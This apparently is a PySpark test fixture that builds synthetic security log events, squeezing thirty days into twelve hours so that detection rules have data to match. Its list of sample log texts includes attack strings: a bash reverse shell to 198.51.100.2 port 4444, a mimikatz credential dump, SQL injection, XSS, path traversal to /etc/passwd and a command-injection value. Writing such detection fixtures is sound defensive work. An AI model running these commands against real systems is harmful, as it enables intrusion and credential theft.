"""Log events derived from the ``events`` test table, and the text each event carries.

Thirty days are squeezed into twelve hours of Saturday 2024-01-06, so that rules over five
minutes have something to find.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession, functions as F

# Text by ``text_id``
TEXTS = [
    "Failed password for root from 203.0.113.7",
    "login failed for user bob bad password",
    "admin tried password 123456",
    "id=1' UNION  SELECT null",
    "q=<script>x()</script>",
    "GET /../../etc/passwd",
    "ping 1.1.1.1 && id",
    "ran sekurlsa::logonpasswords",
    "powershell -EncodedCommand QQBB",
    "bash -i >& /dev/tcp/198.51.100.2/4444",
    "blob TVqQAAMAAAAEAAAA",
    "sudo: bob : user NOT in sudoers",
    "chmod 4755 /tmp/x",
    "download complete 500MB",
    "mysqldump --all-databases",
    "nmap -sS 10.0.0.0/8",
    "GET /deadbeefdeadbeef01 HTTP/1.1",
    "User jane.smith logged in successfully",
    "Database query executed",
    "login failed for\nuser bob bad password",
    "login failed for\ruser bob bad password",
    "a | b",
    "retry 3 = 3 ok",
]


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


ROWS_PER_TASK = 250_000


def spread(df: DataFrame) -> DataFrame:
    """Rows over all cores when the input has fewer splits than cores, as one small file has, and over more tasks when a
    task would have more than ``ROWS_PER_TASK`` of them: a split is bounded in bytes, which tell little of the rows made of it.

    Inputs with enough splits are left alone. The rows of a Parquet table are counted from its footers.
    """
    tasks = max(df.sparkSession.sparkContext.defaultParallelism, -(-df.count() // ROWS_PER_TASK))
    return df.repartition(tasks) if df.rdd.getNumPartitions() < tasks else df


def shape(events: DataFrame) -> DataFrame:
    """Rows of the ``events`` table (batch or stream) as log events."""
    k = F.get_json_object("props", "$.k").cast("int")
    services = F.lit(["ssh", "web", "database", "file_server", "ldap", "vpn", "api"])
    squeezed = F.expr("1704499200000000 + (unix_micros(CAST(ts AS TIMESTAMP)) - 1704067200000000) DIV 60")
    kind = F.col("event_type")
    return events.select(
        F.col("event_id").cast("string").alias("event_id"),
        F.timestamp_micros(squeezed).alias("ts"),
        F.concat(F.lit("u"), "user_id").alias("user_id"),
        F.concat(F.lit("10.0.0."), (k % 5).cast("string")).alias("source_ip"),
        F.element_at(services, k % 7 + 1).alias("service"),
        F.when(kind.isin("error", "signup"), "authentication")
        .when(kind == "view", "data_access")
        .when(kind == "click", "network_connection")
        .when(k % 2 == 0, "privilege_escalation").otherwise("authorization").alias("event_type"),
        F.when(kind == "error", "failure").when(kind == "signup", "success").alias("outcome"),
        F.element_at(F.lit(TEXTS), k % 23 + 1).alias("raw_log"),
        F.col("value").alias("payload_size"),
        F.when(kind == "click", F.concat(F.lit("192.168.1."), (k % 11).cast("string"))).alias("destination_ip"),
        F.when(kind == "click", k % 60).alias("destination_port"),
        k.alias("k"),
    )


def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Log events with ``attributes``; unused columns are pruned from the scan."""
    flat = shape(spread(table(spark, sf_dir, "events")))
    return flat.withColumn("attributes", attributes()).withColumn("source_format", F.lit("json"))


def attributes() -> Column:
    return F.map_from_entries(F.filter(
        F.array(*[F.struct(F.lit(name).alias("key"), F.col(name).cast("string").alias("value"))
                  for name in ("payload_size", "destination_port", "outcome")]),
        lambda entry: entry["value"].isNotNull()))
